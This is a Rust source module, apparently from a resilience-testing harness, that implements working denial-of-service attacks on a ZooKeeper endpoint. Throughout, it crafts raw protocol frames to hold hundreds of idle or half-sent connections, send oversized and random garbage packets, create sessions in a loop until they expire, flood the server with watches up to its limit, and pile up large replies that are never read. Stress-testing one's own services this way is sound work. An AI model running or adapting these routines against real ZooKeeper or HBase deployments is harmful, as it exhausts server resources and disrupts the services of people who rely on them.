//! Attacks on the ZooKeeper endpoint.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use super::{Attack, AttackContext, HeldResources, push};
use crate::common::raw::frame;

const MANY: usize = 300;
const EXISTS: i32 = 3;
const GET_CHILDREN: i32 = 8;
const SET_WATCHES: i32 = 101;

pub const ATTACKS: &[Attack] = &[
    Attack::new("ZooKeeper: silent connections", silent),
    Attack::new("ZooKeeper: half a connect request", half_connect),
    Attack::new("ZooKeeper: endless connect requests", endless_connect),
    Attack::new("ZooKeeper: half packets", half_packets),
    Attack::new("ZooKeeper: garbage", garbage),
    Attack::new("ZooKeeper: sessions", sessions),
    Attack::new("ZooKeeper: watches", watches),
    Attack::new("ZooKeeper: replies never read", never_read),
];

fn string(text: &str) -> Vec<u8> {
    [&(text.len() as u32).to_be_bytes()[..], text.as_bytes()].concat()
}

fn strings(all: &[String]) -> Vec<u8> {
    let mut bytes = (all.len() as u32).to_be_bytes().to_vec();
    all.iter().for_each(|text| bytes.extend(string(text)));
    bytes
}

fn connect_request() -> Vec<u8> {
    let fixed = [&0_i32.to_be_bytes()[..], &0_i64.to_be_bytes(), &30_000_i32.to_be_bytes()].concat();
    frame(&[&fixed[..], &0_i64.to_be_bytes(), &16_u32.to_be_bytes(), &[0; 16], &[0]].concat())
}

fn request(op: i32, body: &[u8]) -> Vec<u8> {
    frame(&[&1_i32.to_be_bytes()[..], &op.to_be_bytes(), body].concat())
}

fn session(context: &AttackContext) -> Option<TcpStream> {
    let mut stream = context.connect(context.zookeeper)?;
    push(&mut stream, &connect_request());
    stream.read_exact(&mut [0; 41]).ok()?;
    Some(stream)
}

fn sent(context: &AttackContext, bytes: &[u8]) -> HeldResources {
    let open = || {
        let mut stream = context.connect(context.zookeeper)?;
        push(&mut stream, bytes);
        Some(stream)
    };
    context.keep(MANY, open, |_| true)
}

fn silent(context: &AttackContext) -> HeldResources {
    sent(context, b"")
}

fn half_connect(context: &AttackContext) -> HeldResources {
    sent(context, &connect_request()[..20])
}

fn endless_connect(context: &AttackContext) -> HeldResources {
    sent(context, &[&1_000_000_u32.to_be_bytes()[..], &[0; 900_000]].concat())
}

fn half_packets(context: &AttackContext) -> HeldResources {
    let half = [&1_000_000_u32.to_be_bytes()[..], &[0; 900_000]].concat();
    let open = || {
        let mut stream = session(context)?;
        push(&mut stream, &half);
        Some(stream)
    };
    context.keep(MANY, open, |stream| push(stream, &[0]))
}

fn garbage(context: &AttackContext) -> HeldResources {
    let mut turn = 0_u32;
    let open = || {
        turn = turn.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        let bytes: Vec<u8> = (0..500_u32).map(|n| (turn.wrapping_mul(n + 1) >> 13) as u8).collect();
        let mut stream = if turn & 4 == 0 { context.connect(context.zookeeper)? } else { session(context)? };
        match turn & 8 {
            0 => push(&mut stream, &bytes),
            _ => push(&mut stream, &request((turn >> 8) as i32 % 110, &bytes)),
        };
        Some(stream)
    };
    context.keep(20, open, |stream| {
        push(stream, &request(0, b""));
        false
    })
}

/// Sessions whose connections are closed: they are kept until they expire.
fn sessions(context: &AttackContext) -> HeldResources {
    while context.runs() {
        drop(session(context));
    }
    Box::new(())
}

/// Watches of absent nodes, up to the server's limit.
fn watches(context: &AttackContext) -> HeldResources {
    let mut next = 0_u64;
    let mut batch = || -> Vec<u8> {
        let exists = |n: u64| {
            let path = format!("/{n:0>900}");
            request(EXISTS, &[&string(&path)[..], &[1]].concat())
        };
        next += 500;
        (next..next + 500).flat_map(exists).collect()
    };
    context.keep(
        40,
        || session(context),
        |stream| {
            super::drain(stream);
            push(stream, &batch())
        },
    )
}

fn never_read(context: &AttackContext) -> HeldResources {
    let paths: Vec<String> = (0..30_000).map(|n| format!("/{n:05}")).collect();
    let nothing = 0_u32.to_be_bytes();
    let set = [&0_i64.to_be_bytes()[..], &strings(&paths), &nothing, &nothing].concat();
    let children = request(GET_CHILDREN, &[&string("/hbase")[..], &[0]].concat()).repeat(2000);
    let requests = [request(SET_WATCHES, &set), children];
    let mut turn = 0;
    let open = || {
        turn += 1;
        let mut stream = session(context)?;
        stream.set_write_timeout(Some(Duration::from_millis(20))).ok()?;
        let _ = stream.write(&requests[turn % 2]);
        Some(stream)
    };
    context.keep(60, open, |_| true)
}
